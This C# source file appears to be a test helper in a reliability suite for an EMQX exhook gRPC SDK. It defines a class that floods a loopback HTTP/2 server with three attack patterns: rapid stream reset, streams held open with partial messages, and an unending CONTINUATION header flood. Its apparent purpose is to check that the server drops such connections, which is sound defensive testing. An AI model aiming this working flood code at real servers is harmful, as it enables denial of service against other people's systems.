using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using HookSdk.EmqX.Tests.Transport.Raw;

namespace HookSdk.Reliability.Tests.Attack;

/// <summary>A connection of one who means harm: whole frames of HTTP/2 go out as fast as the server takes them, and what comes back is thrown away.</summary>
internal sealed class Http2Attacker : IAsyncDisposable
{
    public const string Hook = "/emqx.exhook.v2.HookProvider/OnClientAuthenticate";

    private const byte Data = 0;
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Continuation = 9;
    private const byte EndHeaders = 4;
    private const int Batch = 500;

    private static readonly byte[] Block = Hpack.Encode(
    [
        (":method", "POST"), (":scheme", "http"), (":path", Hook), (":authority", "localhost"), ("te", "trailers"), ("content-type", "application/grpc"),
    ]);

    private readonly Socket _socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
    private int _stream = -1;

    /// <summary>Frames that were given to the socket.</summary>
    public int Sent { get; private set; }

    public static async Task<Http2Attacker> ConnectAsync(int port, CancellationToken cancellationToken)
    {
        Http2Attacker attacker = new();
        await attacker._socket.ConnectAsync(IPAddress.Loopback, port, cancellationToken);
        await attacker._socket.SendAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], cancellationToken);
        return attacker;
    }

    /// <summary>Begins calls and resets each at once, until the server ends the connection.</summary>
    public Task ResetUntilClosedAsync(CancellationToken cancellationToken) => FloodAsync(
        () => [.. Enumerable.Range(0, Batch).SelectMany(_ => BeginAndReset(_stream += 2))],
        cancellationToken);

    /// <summary>Begins calls with six bytes of a message of 200 and sends no more of them, until the server ends the connection.</summary>
    public Task HoldUntilClosedAsync(CancellationToken cancellationToken) => FloodAsync(
        () => [.. Enumerable.Range(0, Batch).SelectMany(_ => BeginAndHold(_stream += 2))],
        cancellationToken);

    /// <summary>Begins one call whose header never ends: each further frame holds a field of its own, and no frame is the last.</summary>
    public Task ContinueUntilClosedAsync(TimeSpan pause, CancellationToken cancellationToken)
    {
        byte[] field = Frame(Continuation, 0, 1, Hpack.Encode([("x-more", new string('x', 1_000))]));
        return FloodAsync(() => Sent++ == 0 ? [.. Frame(Headers, 0, 1, Block), .. field] : field, cancellationToken, pause);
    }

    public ValueTask DisposeAsync()
    {
        _socket.Dispose();
        return default;
    }

    private static byte[] BeginAndReset(int stream) => [.. Frame(Headers, EndHeaders, stream, Block), .. Frame(Reset, 0, stream, [0, 0, 0, 8])];

    private static byte[] BeginAndHold(int stream) => [.. Frame(Headers, EndHeaders, stream, Block), .. Frame(Data, 0, stream, [0, 0, 0, 0, 200, 1])];

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    /// <summary>Ends when the server has closed the connection, by an end or by a reset.</summary>
    private async Task FloodAsync(Func<byte[]> next, CancellationToken cancellationToken, TimeSpan pause = default)
    {
        Task closed = ReadToEndAsync(cancellationToken);
        try
        {
            while (!closed.IsCompleted)
            {
                await _socket.SendAsync(next(), cancellationToken);
                if (pause > TimeSpan.Zero)
                {
                    await Task.WhenAny(closed, Task.Delay(pause, cancellationToken));
                }
            }
        }
        catch (SocketException)
        {
            // The server has closed it.
        }

        await closed;
    }

    private async Task ReadToEndAsync(CancellationToken cancellationToken)
    {
        byte[] rest = new byte[16 * 1024];
        try
        {
            while (await _socket.ReceiveAsync(rest, cancellationToken) > 0)
            {
            }
        }
        catch (SocketException)
        {
            // As above.
        }
    }
}
